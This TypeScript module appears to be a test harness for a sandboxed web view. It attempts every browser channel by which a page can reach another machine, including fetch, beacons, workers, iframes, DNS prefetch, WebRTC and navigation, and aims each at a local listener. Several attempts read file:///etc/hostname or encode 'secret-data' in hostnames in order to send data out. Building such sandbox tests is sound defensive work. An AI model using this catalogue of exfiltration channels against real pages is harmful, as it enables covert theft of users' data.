/** Where the attempts go. */
export interface Target {
  readonly port: number;
  readonly udpPort: number;
}

/** Attempts that leave their name in the first line of a connection when they are not denied. */
export const NAMED = [
  'fetch',
  'fetch-no-cors',
  'fetch-keepalive',
  'xhr',
  'websocket',
  'event-source',
  'beacon',
  'ping',
  'image',
  'srcset',
  'script',
  'import',
  'worker-fetch',
  'stylesheet',
  'style-import',
  'background',
  'font',
  'frame',
  'frame-srcdoc',
  'object',
  'embed',
  'audio',
  'video',
  'svg-image',
  'prefetch',
  'preload',
  'form',
  'window-open',
  'anchor-blank',
] as const;

/**
 * Runs inside a window: every way in which a page can reach another machine. Nothing is reported but what threw, since a
 * page is told little about what became of its requests; whether anything arrived is for the listener to say.
 */
export async function attemptEverything({ port, udpPort }: Target): Promise<string[]> {
  const http = `http://127.0.0.1:${String(port)}`;
  const refused: string[] = [];
  const body = document.body;
  const pause = (milliseconds: number): Promise<void> => new Promise((done) => setTimeout(done, milliseconds));

  const attempt = async (name: string, work: (address: string) => unknown): Promise<void> => {
    try {
      await Promise.race([work(`${http}/${name}`), pause(3000)]);
    } catch (error) {
      refused.push(`${name}: ${error instanceof Error ? error.name : typeof error}`);
    }
  };
  /** Attributes whose values Trusted Types guard are set as a page would that makes itself a policy, where it can. */
  const trust = (text: string): string => {
    const factory = (
      globalThis as {
        trustedTypes?: { createPolicy: (name: string, rules: object) => { createHTML: (html: string) => string } };
      }
    ).trustedTypes;
    try {
      return (
        factory
          ?.createPolicy(`hostile-${String(Math.random())}`, { createHTML: (html: string) => html })
          .createHTML(text) ?? text
      );
    } catch {
      return text;
    }
  };
  const add = (tag: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    body.append(element);
    return element;
  };
  const link = (rel: string, address: string, more: Readonly<Record<string, string>> = {}): HTMLElement =>
    add('link', { rel, href: address, ...more });
  const style = (text: string): void => {
    add('style', {}).textContent = text;
  };

  await Promise.all([
    attempt('fetch', (address) => fetch(address)),
    attempt('fetch-no-cors', (address) => fetch(address, { mode: 'no-cors', method: 'POST', body: 'secret' })),
    attempt('fetch-keepalive', (address) => fetch(address, { keepalive: true, method: 'POST', body: 'secret' })),
    attempt('fetch-name', () => fetch('http://secret-data.residua.test/')),
    attempt('fetch-file', async () => {
      const text = await (await fetch('file:///etc/hostname')).text();
      await fetch(`${http}/file-read?${text}`);
    }),
    attempt(
      'xhr',
      (address) =>
        new Promise((done) => {
          const request = new XMLHttpRequest();
          request.open('POST', address);
          request.onloadend = done;
          request.send('secret');
        }),
    ),
    attempt(
      'websocket',
      (address) =>
        new Promise((done) => {
          const socket = new WebSocket(address.replace('http', 'ws'));
          socket.onopen = done;
          socket.onerror = done;
        }),
    ),
    attempt(
      'event-source',
      (address) =>
        new Promise((done) => {
          const source = new EventSource(address);
          source.onerror = () => {
            source.close();
            done(null);
          };
        }),
    ),
    attempt('beacon', (address) => navigator.sendBeacon(address, 'secret')),
    attempt('image', (address) => {
      new Image().src = address;
    }),
    attempt('srcset', (address) => add('img', { srcset: `${address} 1x` })),
    attempt('script', (address) => add('script', { src: address })),
    attempt('import', (address) => import(/* @vite-ignore */ address)),
    attempt('worker-fetch', (address) => {
      const source = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' })`;
      return new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
    }),
    attempt('shared-worker', (address) => new SharedWorker(address)),
    attempt('service-worker', (address) => navigator.serviceWorker.register(address)),
    attempt('own-service-worker', () => navigator.serviceWorker.register('/index.html')),
    attempt('stylesheet', (address) => link('stylesheet', address)),
    attempt('style-import', (address) => style(`@import url(${address});`)),
    attempt('background', (address) => {
      add('div', {}).style.backgroundImage = `url(${address})`;
    }),
    attempt('font', (address) => new FontFace('hostile', `url(${address})`).load()),
    attempt('frame', (address) => add('iframe', { src: address })),
    attempt('frame-srcdoc', (address) => add('iframe', { srcdoc: trust(`<img src="${address}">`) })),
    attempt('frame-file', () => add('iframe', { src: 'file:///etc/hostname' })),
    attempt('frame-data', () => add('iframe', { src: `data:text/html,<img src="${http}/frame-data">` })),
    attempt('webview', (address) => add('webview', { src: address })),
    attempt('object', (address) => add('object', { data: address })),
    attempt('embed', (address) => add('embed', { src: address })),
    attempt('audio', (address) => add('audio', { src: address, preload: 'auto' })),
    attempt('video', (address) => add('video', { src: address, preload: 'auto' })),
    attempt('svg-image', (address) => {
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', address);
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      svg.append(image);
      body.append(svg);
    }),
    attempt('prefetch', (address) => link('prefetch', address)),
    attempt('preload', (address) => link('preload', address, { as: 'image' })),
    attempt('icon', (address) => link('icon', address)),
    attempt('manifest', (address) => link('manifest', address)),
    attempt('preconnect', () => link('preconnect', http)),
    attempt('preconnect-name', () => link('preconnect', 'http://secret-data.preconnect.residua.test')),
    attempt('dns-prefetch', () => link('dns-prefetch', '//secret-data.prefetch.residua.test')),
    attempt('speculation', (address) => {
      add('script', { type: 'speculationrules' }).textContent = JSON.stringify({
        prefetch: [{ source: 'list', urls: [address] }],
      });
    }),
    attempt('web-transport', async () => {
      const { WebTransport: Transport } = globalThis as unknown as {
        WebTransport: new (address: string) => { ready: Promise<void> };
      };
      await new Transport(`https://127.0.0.1:${String(udpPort)}/`).ready;
    }),
  ]);

  await attempt('webrtc', async () => {
    const credentials = { username: 'hostile', credential: 'hostile' };
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: [`stun:127.0.0.1:${String(udpPort)}`, 'stun:secret-data.stun.residua.test:3478'] },
        { urls: [`turn:127.0.0.1:${String(udpPort)}?transport=udp`], ...credentials },
        { urls: [`turn:127.0.0.1:${String(port)}?transport=tcp`], ...credentials },
        { urls: [`turns:127.0.0.1:${String(port)}?transport=tcp`], ...credentials },
      ],
    });
    const other = new RTCPeerConnection();
    peer.createDataChannel('hostile');
    await peer.setLocalDescription();
    await other.setRemoteDescription(peer.localDescription ?? { type: 'offer' });
    await other.setLocalDescription();
    await peer.setRemoteDescription(other.localDescription ?? { type: 'answer' });
    // The other end is said to sit where the listeners are.
    for (const candidate of [
      `candidate:1 1 udp 2122260223 127.0.0.1 ${String(udpPort)} typ host`,
      `candidate:2 1 tcp 1518280447 127.0.0.1 ${String(port)} typ host tcptype passive`,
    ]) {
      await peer.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
    }
    await pause(2500);
    peer.close();
    other.close();
  });

  // These may take the page away, so they come last.
  await attempt('ping', (address) => {
    const anchor = add('a', { href: '#', ping: address });
    anchor.click();
  });
  await attempt('window-open', (address) => open(address));
  await attempt('anchor-blank', (address) => add('a', { href: address, target: '_blank' }).click());
  await attempt('form', (address) => {
    (add('form', { action: address, method: 'post', target: 'somewhere' }) as HTMLFormElement).submit();
  });
  await pause(500);
  return refused;
}

/** Runs inside a window: the ways to lead it elsewhere, each after the one before had its time. */
export async function attemptToNavigate({ port }: Target): Promise<void> {
  const http = `http://127.0.0.1:${String(port)}`;
  const ways: readonly ((address: string) => void)[] = [
    (address) => {
      location.href = address;
    },
    (address) => {
      location.assign(address);
    },
    (address) => {
      location.replace(address);
    },
    (address) => {
      open(address, '_self');
    },
    (address) => {
      const form = document.createElement('form');
      form.action = address;
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
    (address) => {
      const anchor = document.createElement('a');
      anchor.href = address;
      document.body.append(anchor);
      anchor.click();
    },
    (address) => {
      const anchor = document.createElement('a');
      anchor.href = address;
      anchor.download = 'secret';
      document.body.append(anchor);
      anchor.click();
    },
    (address) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;url=${address}`;
      document.head.append(meta);
    },
  ];
  for (const [index, go] of ways.entries()) {
    for (const address of [`${http}/navigation-${String(index)}`, 'file:///etc/hostname', 'data:text/html,elsewhere']) {
      go(address);
      await new Promise((done) => setTimeout(done, 60));
    }
  }
}
